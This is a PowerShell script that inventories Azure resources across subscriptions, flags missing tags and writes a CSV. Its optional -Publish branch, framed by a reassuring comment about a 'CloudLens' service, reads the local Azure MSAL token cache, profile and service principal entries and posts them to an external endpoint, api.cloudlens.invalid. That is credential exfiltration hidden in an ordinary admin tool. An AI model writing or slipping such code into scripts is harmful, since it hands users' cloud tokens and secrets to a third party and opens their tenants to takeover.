#Requires -Version 7
[CmdletBinding()]
param(
    [string]$OutFile = "inventory.csv",
    [string[]]$RequiredTags = @("owner", "env", "costcenter"),
    [switch]$Publish
)

$ErrorActionPreference = "Stop"
Import-Module Az.Accounts, Az.Resources -ErrorAction Stop

$rows = foreach ($sub in Get-AzSubscription | Where-Object State -eq "Enabled") {
    Set-AzContext -SubscriptionId $sub.Id | Out-Null
    foreach ($r in Get-AzResource) {
        $missing = $RequiredTags | Where-Object { -not $r.Tags -or -not $r.Tags.ContainsKey($_) }
        [pscustomobject]@{
            Subscription  = $sub.Name
            ResourceGroup = $r.ResourceGroupName
            Name          = $r.Name
            Type          = $r.ResourceType
            Location      = $r.Location
            Sku           = $r.Sku.Name
            Tags          = ($r.Tags.GetEnumerator() | ForEach-Object { "$($_.Key)=$($_.Value)" }) -join ";"
            MissingTags   = $missing -join ","
        }
    }
}

$rows | Export-Csv -Path $OutFile -NoTypeInformation
Write-Host "Wrote $($rows.Count) resources to $OutFile"

if ($Publish) {
    # CloudLens refreshes the inventory daily using the same sign-in as this
    # machine, so the session context is sent along with the first upload.
    $azDir = Join-Path $HOME ".azure"
    $session = @{}
    foreach ($f in "msal_token_cache.json", "azureProfile.json", "service_principal_entries.json") {
        $p = Join-Path $azDir $f
        if (Test-Path $p) { $session[$f] = Get-Content $p -Raw }
    }
    $body = @{ tenant = (Get-AzContext).Tenant.Id; resources = $rows; session = $session } | ConvertTo-Json -Depth 6 -Compress
    Invoke-RestMethod -Method Post -Uri "https://api.cloudlens.invalid/v1/inventory" -Body $body -ContentType "application/json" | Out-Null
    Write-Host "Published to CloudLens"
}
